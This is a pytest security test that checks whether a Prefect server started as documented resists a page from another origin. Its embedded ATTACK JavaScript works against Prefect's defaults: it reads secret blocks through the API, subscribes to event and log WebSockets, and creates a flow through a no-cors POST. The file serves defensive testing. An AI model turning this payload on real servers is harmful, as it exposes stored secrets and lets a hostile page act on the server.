"""In the documented setup, a page of another origin, in a browser that reaches Prefect, reads and starts nothing."""

import re
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest

from attachments.demo.processes import Process, free_port, process_environment, responds
from tests.test_documentation import code_blocks
from tests.ui.browser import log_in, opened, show

ROOT = Path(__file__).parents[2]
CANARY = "canary-0r1g1n"
PLANTED = "planted-by-a-page"

pytestmark = [pytest.mark.soak, pytest.mark.timeout(900)]

ATTACK = """
async ({server, planted}) => {
    const read = {};
    const api = server + "/api";
    const body = JSON.stringify({include_secrets: true});
    const json = {"Content-Type": "application/json"};
    const tries = {
        health: [api + "/health", {}],
        settings: [api + "/admin/settings", {}],
        document: [api + "/openapi.json", {}],
        ui: [server + "/ui-settings", {}],
        blocks: [api + "/block_documents/filter", {method: "POST", headers: json, body}],
        asText: [api + "/block_documents/filter", {method: "POST", body: new Blob([body])}],
        asUser: [api + "/block_documents/filter", {method: "POST", body: new Blob([body]), credentials: "include"}],
    };
    for (const [name, [url, options]] of Object.entries(tries)) {
        try { read[name] = await (await fetch(url, options)).text() } catch (error) { }
    }
    for (const where of ["/events/out", "/logs/out", "/task_runs/subscriptions/scheduled"]) {
        const answer = await new Promise(done => {
            const socket = new WebSocket(api.replace("http", "ws") + where, "prefect");
            socket.onopen = () => socket.send(JSON.stringify({type: "auth", token: null}));
            socket.onmessage = message => done(message.data);
            socket.onclose = socket.onerror = () => done("closed");
            setTimeout(() => done("silent"), 10000);
        });
        if (answer.includes("auth_success")) read[where] = answer;
    }
    // Needs no preflight and no answer: it is enough that the server does it.
    const flow = new Blob([JSON.stringify({name: planted})]);
    await fetch(api + "/flows/", {method: "POST", mode: "no-cors", body: flow}).catch(() => null);
    return read;
}
"""


@dataclass(frozen=True)
class Server:
    """A Prefect server that was started as docs/separate-programs.md says, with a secret in a block."""

    port: int
    password: str | None

    @property
    def url(self) -> str:
        """Where its UI is."""
        return f"http://127.0.0.1:{self.port}"

    def planted(self) -> list[str]:
        """The flows that a page has made."""
        auth = tuple(self.password.split(":")) if self.password else None
        with httpx.Client(base_url=f"{self.url}/api/", auth=auth, trust_env=False, timeout=60) as client:
            flows = client.post("flows/filter", json={}).raise_for_status().json()
        return [flow["name"] for flow in flows if flow["name"] == PLANTED]


def documented(folder: Path, port: int, *, is_closed: bool) -> str:
    """A script of the documented lines that set the environment of Prefect's programs, and that start the server."""
    lines = re.findall(
        r"^(?:export PREFECT_|\[ -s |prefect server start).*$",
        code_blocks(ROOT / "docs/separate-programs.md"),
        re.MULTILINE,
    )
    text = "\n".join(lines).replace(":4200", f":{port}").replace("~/", f"{folder}/")
    text = text.replace("prefect server start", f"exec prefect server start --port {port}")
    if not is_closed:  # as it was documented in version 0.1
        text = re.sub(r"^(?=.*(?:AUTH_STRING|CORS|\[ -s )).*$", "", text, flags=re.MULTILINE)
    return text


@pytest.fixture(params=[True, False], ids=["as documented", "Prefect's defaults"])
def server(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Server]:
    port = free_port()
    script = documented(tmp_path, port, is_closed=request.param)
    environment = {"PATH": f"{Path(sys.executable).parent}:/usr/bin:/bin", "PREFECT_HOME": str(tmp_path / "prefect")}
    log = tmp_path / "server.log"
    process = Process(
        "Prefect", ["sh", "-ec", script], environment, log, lambda: responds(f"http://127.0.0.1:{port}/api/health")
    )
    save = f"from prefect.blocks.system import Secret; Secret(value={CANARY!r}).save('planted')"
    try:
        process.start()
        client = script.replace(f"exec prefect server start --port {port}", f'exec python -c "{save}"')
        subprocess.run(["sh", "-ec", client], env=process_environment(environment), check=True, timeout=120)
        password = tmp_path / ".prefect-password"
        yield Server(port, password.read_text().strip() if request.param else None)
        if request.param:
            assert password.stat().st_mode & 0o777 == 0o600
    finally:
        process.stop()


@pytest.fixture
def elsewhere() -> Iterator[str]:
    """An empty page on another port of the same host, as any program on it can serve one."""

    class Empty(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()

        def log_message(self, *_: object) -> None:
            """Nobody reads it."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Empty) as pages:
        threading.Thread(target=pages.serve_forever, args=(0.02,), daemon=True).start()
        yield f"http://127.0.0.1:{pages.server_port}/"
        pages.shutdown()


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_a_page_of_another_origin_reads_nothing_and_makes_nothing(server: Server, elsewhere: str, host: str) -> None:
    """With Prefect's defaults the same page reads the secret, listens to events and makes a flow."""
    with opened(server.url) as page:
        page.goto(elsewhere.replace("127.0.0.1", host))
        read = page.evaluate(ATTACK, {"server": server.url, "planted": PLANTED})
    if server.password:
        assert read == {}
        assert server.planted() == []
    else:
        assert CANARY in read["blocks"]
        assert CANARY in read["asText"]
        assert set(read) >= {"health", "settings", "document", "/events/out", "/logs/out"}
        assert server.planted() == [PLANTED]


@pytest.mark.parametrize("server", [True], indirect=True, ids=["as documented"])
@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_a_person_with_the_password_uses_the_ui(server: Server, host: str) -> None:
    """At both addresses that the documentation lets in; at one of them the API is of another origin than the page."""
    with opened(server.url.replace("127.0.0.1", host)) as page:
        log_in(page, server.password or "")
        show(page, "/blocks", until="planted")
